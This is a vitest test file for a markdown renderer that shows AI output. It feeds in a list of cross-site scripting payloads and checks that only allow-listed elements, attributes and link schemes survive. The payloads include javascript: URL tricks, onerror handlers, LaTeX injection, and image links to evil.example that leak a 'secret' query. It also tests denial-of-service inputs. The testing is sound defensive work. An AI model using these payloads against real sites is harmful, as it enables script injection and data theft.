// @vitest-environment jsdom
// A model's text is not to be trusted: nothing in it may run, fetch, or hold the page up.
import "./dom-style.ts";

import { describe, expect, it } from "vitest";

import { renderMarkdown, streamMarkdown } from "../src/markdown/index.ts";

const options = { copyLabel: () => "Copy", copiedLabel: () => "Copied" };

const ELEMENTS = new Set(
  (
    "a blockquote br button code del div em h4 h5 h6 hr input label li ol p pre s span strong table tbody td th thead tr ul " +
    "math menclose merror mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow mspace msqrt mstyle msub " +
    "msubsup msup mtable mtd mtext mtr munder munderover"
  ).split(" "),
);
const ATTRIBUTES = new Set(
  (
    "aria-label checked class data-source dir disabled href rel role start tabindex target title translate type " +
    "accent columnalign columnlines columnspacing depth display displaystyle fence form height largeop linebreak linethickness lspace " +
    "mathbackground mathcolor mathvariant maxsize minsize movablelimits notation rowlines rowspacing rspace scriptlevel separator " +
    "side stretchy style symmetric voffset width"
  ).split(" "),
);

const attacks: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg><g/onload=alert(1)></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<br onclick=alert(1)><br/onmouseover=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](java&#x0A;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\\x01javascript:alert(1))",
  "[x](vbscript:alert(1)) [y](file:///etc/passwd) [z](blob:https://e.com/1)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](//evil.example) [y](/api/me) [z](#id) [q](?a)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "![x](https://evil.example/?q=secret)",
  "![x][r]\n\n[r]: https://evil.example/?q=secret",
  "[r]\n\n[r]: javascript:alert(1)",
  "<javascript:alert(1)> <data:text/html,x>",
  "https://e.com/\"onmouseover=alert(1)// https://e.com/&quot;onclick=x",
  "[x](https://e.com \"a\" onclick=alert(1) \")",
  "[x](https://e.com '\"><img src=x onerror=alert(1)>')",
  "```\"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
  "```<script>\nx\n```",
  "|a|\n|:-:\"onclick=x|\n|<img src=x onerror=alert(1)>|",
  "`<script>alert(1)</script>`",
  "- [x]<img src=x onerror=alert(1)>",
  "[__proto__]\n\n[__proto__]: https://e.com\n[constructor]: https://e.com/c\n\n[constructor]",
  "\\(\\href{javascript:alert(1)}{x} \\url{javascript:alert(1)}\\)",
  "\\(\\includegraphics{https://evil.example/?q=secret}\\) $\\includegraphics{x}$",
  "\\(\\text{<img src=x onerror=alert(1)>} \\unicode{x} \\char`\\<\\)",
  "\\(\\style{background:url(https://evil.example)}{x}\\) \\(\\class{x}{y}\\) \\(\\id{z}{y}\\) \\(\\data{a=b}{y}\\)",
  "\\[ x \\label{message} \\tag{<b>} \\] \\(\\ref{message} \\eqref{javascript:x}\\)",
  "\\(\\color{red;background:url(//e.com)}{x} \\colorbox{#fff\"onclick=}{y} \\kern-1e9em\\)",
  "\\(\\def\\__proto__{x}\\__proto__ \\constructor \\begin{constructor}x\\end{constructor}\\) \\(\\begin{__proto__}\\)",
  "```constructor\nx\n```\n```__proto__\ny\n```\n```toString\nz\n```",
];

function check(into: HTMLElement): void {
  for (const element of into.querySelectorAll("*")) {
    expect(ELEMENTS).toContain(element.localName);
    for (const attribute of element.attributes) expect(ATTRIBUTES).toContain(attribute.name);
    if (element.localName === "a") expect(element.getAttribute("href")).toMatch(/^(?:https?:\/\/|mailto:)/i);
  }
}

describe("nothing in a text runs or fetches", () => {
  it.each(attacks)("%j", async (attack) => {
    const into = document.createElement("div");
    await renderMarkdown(into, attack, options);
    check(into);
    const grown = document.createElement("div");
    const stream = streamMarkdown(grown, options);
    for (const char of attack) stream.append(char);
    await new Promise((resolve) => requestAnimationFrame(resolve));
    check(grown);
    await stream.finish();
    expect(grown.innerHTML).toBe(into.innerHTML);
  });

  it("an image is a link", async () => {
    const into = document.createElement("div");
    await renderMarkdown(into, "![a cat](https://e.com/cat.png)", options);
    expect(into.innerHTML).toBe('<p><a href="https://e.com/cat.png" target="_blank" rel="noopener noreferrer">a cat</a></p>');
  });
});

const pathological: Record<string, string> = {
  "a line of 100,000 characters": "word ".repeat(20_000),
  "quotes 1,000 deep": `${"> ".repeat(1_000)}x`,
  "quotes 1,000 deep, line by line": Array.from({ length: 1_000 }, (_, depth) => `${">".repeat(depth)} x`).join("\n"),
  "lists 1,000 deep": Array.from({ length: 1_000 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n"),
  "lists 1,000 deep in a line": `${"- ".repeat(1_000)}x`,
  "emphasis never closed": "*a".repeat(10_000),
  "emphasis never closed, apart": "*a ".repeat(10_000),
  "mixed emphasis": "*a **b _c __d ".repeat(3_000),
  "underscores": "_a ".repeat(10_000),
  brackets: "[".repeat(10_000),
  "links in labels": "[a](".repeat(5_000),
  "images in labels": "![a](".repeat(5_000),
  "growing code marks": Array.from({ length: 500 }, (_, length) => `e${"`".repeat(length)}`).join(""),
  entities: "&amp".repeat(10_000),
  "angle brackets": "<".repeat(20_000),
  "one table of 20,000 columns": `${"|".repeat(20_000)}\n${"|-".repeat(10_000)}`,
  "www without end": "www.".repeat(10_000),
  "address without end": `https://a.b/${"(".repeat(10_000)}${")".repeat(10_000)}`,
  "10,000 definitions": Array.from({ length: 10_000 }, (_, index) => `[a${String(index)}]: https://e.com`).join("\n"),
  "a long line of code": `\`\`\`js\n${"a(".repeat(30_000)}\n\`\`\``,
  "trailing blanks": `a${" ".repeat(50_000)}b`,
  "blank lines": "\n".repeat(50_000),
  "formulas never closed": "\\(a ".repeat(4_900),
  "displays that begin in each other, line by line": "$$ a\n\\[ b\n".repeat(2_000),
  "displays never closed, in items": "- \\[ a\n".repeat(3_000),
  "dollars": "$a ".repeat(6_000),
  "dollars without blanks": "$a".repeat(9_000),
  "formulas that go around in circles": "\\(\\def\\a{\\a\\a}\\a\\) ".repeat(500),
  "formulas that grow": `\\(\\def\\a#1{#1#1#1#1#1#1#1#1}${"\\a{".repeat(8)}x${"}".repeat(8)}\\) `.repeat(30),
  "a formula 1,900 deep": `\\[${"{".repeat(1_900)}x${"}".repeat(1_900)}\\]`,
  "1,000 formulas": "\\(\\frac{a}{b}\\) and ".repeat(1_000),
};

describe("no text takes long", () => {
  it.each(Object.entries(pathological))("%s", async (_, text) => {
    const begun = performance.now();
    const into = document.createElement("div");
    await renderMarkdown(into, text, options);
    expect(performance.now() - begun).toBeLessThan(3_000);
    expect(into.textContent.length).toBeGreaterThanOrEqual(text.startsWith("\n") || text.startsWith("[a0]") ? 0 : 1);
  });

  it("text nested too deep is still shown", async () => {
    const into = document.createElement("div");
    await renderMarkdown(into, `${"> ".repeat(1_000)}the end`, options);
    expect(into.textContent).toContain("the end");
  });
});
